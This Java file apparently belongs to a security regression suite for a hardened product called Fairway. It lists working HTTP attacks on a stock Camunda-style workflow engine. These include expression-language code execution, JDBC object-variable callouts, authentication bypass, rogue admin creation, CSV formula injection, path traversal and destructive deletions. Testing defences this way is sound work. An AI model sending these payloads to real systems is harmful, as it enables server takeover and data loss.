package fairway.process.doors;

import java.util.ArrayList;
import java.util.List;

/**
 * Something that has been done to stock 7.24.0.
 *
 * @param name     what a reader calls it
 * @param requests one after the other; {@code {file}}, {@code {port}}, {@code {task}}, {@code {1.id}} … stand for what is there when it runs
 * @param harm     by what one sees that it worked
 */
record Attack(String name, List<Request> requests, Harm harm) {

    /** One request; a body without headers of its own is JSON. */
    record Request(String method, String path, List<String> headers, String body) {
    }

    /** What an attack does when it works. */
    enum Harm {
        /** The file {@code {file}} was made: code of the attacker's ran on the server. */
        RUNS_CODE,
        /** The server opened a connection to {@code {port}}. */
        CALLS_OUT,
        /** The last request was answered with a way to {@link #ELSEWHERE}. */
        LEADS_AWAY,
        /** The last answer may stand in a frame of anybody's. */
        IS_FRAMED,
        /** The last answer is a table in which a spreadsheet finds a formula. */
        HANDS_OUT_A_FORMULA,
        /** The last request was answered with success. */
        IS_DONE,
        /** There is a user {@code mallory} who was made without any right to it. */
        MAKES_A_USER
    }

    private static final String CODE = "${''.getClass().forName('java.io.FileOutputStream').getConstructor(''.getClass()).newInstance('{file}') != null ? 'x' : 'y'}";
    private static final String PROBE = "probeOwn";
    /** Where somebody else would like people to be. */
    static final String ELSEWHERE = "evil.example";

    static Attack of(String name, Harm harm, Request... requests) {
        return new Attack(name, List.of(requests), harm);
    }

    static Request get(String path) {
        return new Request("GET", path, List.of(), null);
    }

    static Request send(String method, String path, String body) {
        return new Request(method, path, body == null ? List.of() : List.of("Content-Type: application/json"), body);
    }

    /** All of them; each works on stock, and none on Fairway. */
    static List<Attack> all() {
        List<Attack> all = new ArrayList<>();
        expressions(all);
        all.addAll(List.of(
                of("CVE-2026-77226: an administrator by the setup page", Harm.MAKES_A_USER, send("POST", "/camunda/api/admin/setup/default/user/create",
                        "{\"profile\":{\"id\":\"mallory\",\"firstName\":\"M\",\"lastName\":\"M\"},\"credentials\":{\"password\":\"a long enough one\"}}")),
                of("a user by the REST API", Harm.MAKES_A_USER, send("POST", "/engine-rest/user/create", "{\"profile\":{\"id\":\"mallory\",\"firstName\":\"M\",\"lastName\":\"M\"},\"credentials\":{\"password\":\"a long enough one\"}}")),
                of("a user by the way past the log-in", Harm.MAKES_A_USER, send("POST", "/camunda/api/engine/engine;x/default/user/create",
                        "{\"profile\":{\"id\":\"mallory\",\"firstName\":\"M\",\"lastName\":\"M\"},\"credentials\":{\"password\":\"a long enough one\"}}"))));
        all.add(setupOfAnEmptiedGroup());
        for (String crooked : List.of("/camunda/api/cockpit/plugin;x/base/default/process-definition/statistics", "/camunda/api/engine/engine;x/default/user", "/camunda/api/engine/engine;/default/user", "/camunda/api/engine/engine;a=b/default/user",
                "/camunda/api/engine/engine;x;y/default/user", "/camunda/api/engine/engine;x=1;y=2/default/user/count")) {
            all.add(of("past the log-in: " + crooked, Harm.IS_DONE, get(crooked)));
        }
        objects(all);
        code(all);
        pastTheGate(all);
        fromOtherSites(all);
        return all;
    }

    /** CVE-2026-109432: expressions in or-brackets and in stored filters. */
    private static void expressions(List<Attack> all) {
        for (String key : List.of("assigneeExpression", "dueBeforeExpression", "candidateGroupsExpression", "processInstanceBusinessKeyExpression", "candidateUserExpression", "followUpAfterExpression")) {
            String query = "{\"orQueries\":[{\"" + key + "\":\"" + CODE + "\"}]}";
            all.add(of("an or-query: " + key, Harm.RUNS_CODE, send("POST", "/engine-rest/task", query)));
        }
        String query = "{\"orQueries\":[{\"name\":\"x\"},{\"assigneeExpression\":\"" + CODE + "\"}]}";
        for (String path : List.of("/engine-rest/task/count", "/engine-rest/task?firstResult=0&maxResults=1", "/engine-rest/filter/{filter}/list", "/engine-rest/filter/{filter}/count",
                "/engine-rest/filter/{filter}/singleResult", "/engine-rest/engine/default/task", "/camunda/api/engine/engine;x/default/task", "/camunda/api/engine/engine;x/default/filter/{filter}/list")) {
            all.add(of("an or-query at " + path, Harm.RUNS_CODE, send("POST", path, query)));
        }
        for (String stored : List.of("{\"assigneeExpression\":\"" + CODE + "\"}", query)) {
            Request made = send("POST", "/engine-rest/filter/create", "{\"resourceType\":\"Task\",\"name\":\"attack\",\"query\":" + stored + ",\"properties\":{}}");
            for (String use : List.of("/list", "/count", "/singleResult")) {
                all.add(of("a stored filter " + (stored.startsWith("{\"or") ? "with an or-query" : "") + use, Harm.RUNS_CODE, made, get("/engine-rest/filter/{1.id}" + use)));
            }
            all.add(of("a stored filter that is extended", Harm.RUNS_CODE, made, send("POST", "/engine-rest/filter/{1.id}/list", "{\"name\":\"x\"}")));
            all.add(of("a filter that is changed", Harm.RUNS_CODE, send("PUT", "/engine-rest/filter/{filter}", "{\"resourceType\":\"Task\",\"name\":\"attack\",\"query\":" + stored + ",\"properties\":{}}"),
                    get("/engine-rest/filter/{filter}/count")));
        }
    }

    /** Variables that name a class to be made, which then opens a connection. */
    private static void objects(List<Attack> all) {
        String object = "{\"type\":\"Object\",\"value\":\"{\\\"url\\\":\\\"jdbc:postgresql://localhost:{port}/x?connectTimeout=2&loginTimeout=2\\\",\\\"username\\\":\\\"x\\\",\\\"password\\\":\\\"x\\\"}\","
                + "\"valueInfo\":{\"objectTypeName\":\"org.springframework.jdbc.datasource.DriverManagerDataSource\",\"serializationDataFormat\":\"application/json\"}}";
        all.add(of("an object variable at the start", Harm.CALLS_OUT, send("POST", "/engine-rest/process-definition/key/" + PROBE + "/start", "{\"variables\":{\"who\":{\"value\":\"x\",\"type\":\"String\"},\"source\":" + object + "}}"),
                get("/engine-rest/process-instance/{1.id}/variables/source")));
        all.add(of("an object variable of an instance", Harm.CALLS_OUT, send("PUT", "/engine-rest/process-instance/{instance}/variables/source", object), get("/engine-rest/process-instance/{instance}/variables/source")));
        all.add(of("an object variable of a task", Harm.CALLS_OUT, send("PUT", "/engine-rest/task/{task}/variables/source", object), get("/engine-rest/task/{task}/variables/source")));
        all.add(of("an object variable in all of an instance's", Harm.CALLS_OUT, send("POST", "/engine-rest/process-instance/{instance}/variables", "{\"modifications\":{\"source\":" + object + "}}"),
                get("/engine-rest/process-instance/{instance}/variables")));
    }

    /** Models that bring their own code along. */
    private static void code(List<Attack> all) {
        String service = "<serviceTask id=\"run\" camunda:expression=\"" + CODE.replace("'", "&apos;") + "\"/>";
        String listener = "<task id=\"run\"><extensionElements><camunda:executionListener event=\"start\" expression=\"" + CODE.replace("'", "&apos;") + "\"/></extensionElements></task>";
        String script = "<scriptTask id=\"run\" scriptFormat=\"juel\"><script><![CDATA[" + CODE + "]]></script></scriptTask>";
        for (String task : List.of(service, listener, script)) {
            String kind = task.substring(1, task.indexOf(' '));
            String key = "attack" + Integer.toHexString(task.hashCode());
            all.add(of("a model is deployed: " + kind, Harm.RUNS_CODE, deployment(key, task), send("POST", "/engine-rest/process-definition/key/" + key + "/start", "{}")));
        }
    }

    private static Request deployment(String key, String task) {
        String model = "<definitions xmlns=\"http://www.omg.org/spec/BPMN/20100524/MODEL\" xmlns:camunda=\"http://camunda.org/schema/1.0/bpmn\" targetNamespace=\"attack\"><process id=\"" + key
                + "\" isExecutable=\"true\" camunda:historyTimeToLive=\"1\"><startEvent id=\"start\"/><sequenceFlow id=\"f\" sourceRef=\"start\" targetRef=\"run\"/>" + task + "</process></definitions>";
        String body = "--walls\r\nContent-Disposition: form-data; name=\"deployment-name\"\r\n\r\nattack\r\n--walls\r\nContent-Disposition: form-data; name=\"data\"; filename=\"" + key
                + ".bpmn\"\r\nContent-Type: application/octet-stream\r\n\r\n" + model + "\r\n--walls--\r\n";
        return new Request("POST", "/engine-rest/deployment/create", List.of("Content-Type: multipart/form-data; boundary=walls"), body);
    }

    /** The group had a member once: then it is no setup any more, and yet it is taken for one. */
    private static Attack setupOfAnEmptiedGroup() {
        String credentials = "\"credentials\":{\"password\":\"a long enough one\"}}";
        return of("CVE-2026-77226: an administrator by the setup page, after the REST API emptied the group", Harm.MAKES_A_USER,
                send("POST", "/engine-rest/user/create", "{\"profile\":{\"id\":\"straw\",\"firstName\":\"S\",\"lastName\":\"S\"}," + credentials),
                send("POST", "/engine-rest/group/create", "{\"id\":\"camunda-admin\",\"name\":\"camunda-admin\",\"type\":\"SYSTEM\"}"),
                send("PUT", "/engine-rest/group/camunda-admin/members/straw", null), send("DELETE", "/engine-rest/group/camunda-admin/members/straw", null),
                send("DELETE", "/engine-rest/user/straw", null),
                send("POST", "/camunda/api/admin/setup/default/user/create", "{\"profile\":{\"id\":\"mallory\",\"firstName\":\"M\",\"lastName\":\"M\"}," + credentials));
    }

    /** What a page elsewhere, a link in a mail or a table that somebody opens does to whoever trusts the server. (No value becomes a header on stock either; see FromOtherSitesTest.) */
    private static void fromOtherSites(List<Attack> all) {
        String deep = "[".repeat(900) + "]".repeat(900);
        Request unclaimed = new Request("POST", "/engine-rest/task/{task}/unclaim", List.of("Origin: https://" + ELSEWHERE, "Sec-Fetch-Site: cross-site", "Sec-Fetch-Mode: no-cors"), null);
        all.addAll(List.of(
                of("another site's form does a step", Harm.IS_DONE, unclaimed),
                of("a redirect to whatever host was asked for", Harm.LEADS_AWAY, new Request("GET", "/", List.of("Host: " + ELSEWHERE), null)),
                of("an answer in a frame", Harm.IS_FRAMED, get("/engine-rest/engine")),
                of("a formula in an export", Harm.HANDS_OUT_A_FORMULA, unclaimed, send("POST", "/engine-rest/task/{task}/identity-links", "{\"groupId\":\"=cmd|' /C calc'!A0\",\"type\":\"candidate\"}"),
                        new Request("GET", "/engine-rest/task/report/candidate-group-count", List.of("Accept: text/csv"), null)),
                of("a file whose name leads out of its folder", Harm.IS_DONE, new Request("POST", "/engine-rest/deployment/create", List.of("Content-Type: multipart/form-data; boundary=walls"),
                        "--walls\r\nContent-Disposition: form-data; name=\"data\"; filename=\"../../../../tmp/attack.txt\"\r\nContent-Type: application/octet-stream\r\n\r\nx\r\n--walls--\r\n")),
                of("a deep body", Harm.IS_DONE, send("POST", "/engine-rest/filter/create", "{\"resourceType\":\"Task\",\"name\":\"deep\",\"query\":{},\"properties\":{\"x\":" + deep + "}}"))));
    }

    /** What leads past a step, or takes something away. */
    private static void pastTheGate(List<Attack> all) {
        all.addAll(List.of(
                of("a variable is set", Harm.IS_DONE, send("PUT", "/engine-rest/process-instance/{instance}/variables/decision", "{\"value\":\"refer\",\"type\":\"String\"}")),
                of("somebody else's task is taken", Harm.IS_DONE, send("POST", "/engine-rest/task/{task}/assignee", "{\"userId\":\"mallory\"}")),
                of("a start in the middle", Harm.IS_DONE, send("POST", "/engine-rest/process-definition/key/" + PROBE + "/start", "{\"variables\":{\"who\":{\"value\":\"x\",\"type\":\"String\"}},\"skipCustomListeners\":true,"
                        + "\"startInstructions\":[{\"type\":\"startBeforeActivity\",\"activityId\":\"userTask_decideFormalStage\"}]}")),
                of("a token is moved", Harm.IS_DONE, send("POST", "/engine-rest/process-instance/{instance}/modification", "{\"skipCustomListeners\":true,\"instructions\":[{\"type\":\"startBeforeActivity\","
                        + "\"activityId\":\"userTask_decideFormalStage\"}]}")),
                of("a task is made by hand", Harm.IS_DONE, send("POST", "/engine-rest/task/create", "{\"id\":\"attack\",\"name\":\"x\",\"assignee\":\"mallory\"}")),
                of("variables are read", Harm.IS_DONE, get("/engine-rest/process-instance/{instance}/variables")),
                of("history is read", Harm.IS_DONE, get("/engine-rest/history/variable-instance?deserializeValues=false")),
                of("comments are read", Harm.IS_DONE, get("/engine-rest/task/{task}/comment")),
                of("a body without an end", Harm.IS_DONE, send("POST", "/engine-rest/task", "{\"name\":\"" + "a".repeat(6 * 1024 * 1024) + "\"}")),
                of("a misspelt query takes everything", Harm.IS_DONE, send("POST", "/engine-rest/process-instance/delete", "{\"deleteReason\":\"x\",\"processInstanceQery\":{\"businessKey\":\"nothing\"},\"processInstanceQuery\":{}}")),
                of("an instance is taken away", Harm.IS_DONE, send("DELETE", "/engine-rest/process-instance/{instance}?skipCustomListeners=true", null))));
    }
}
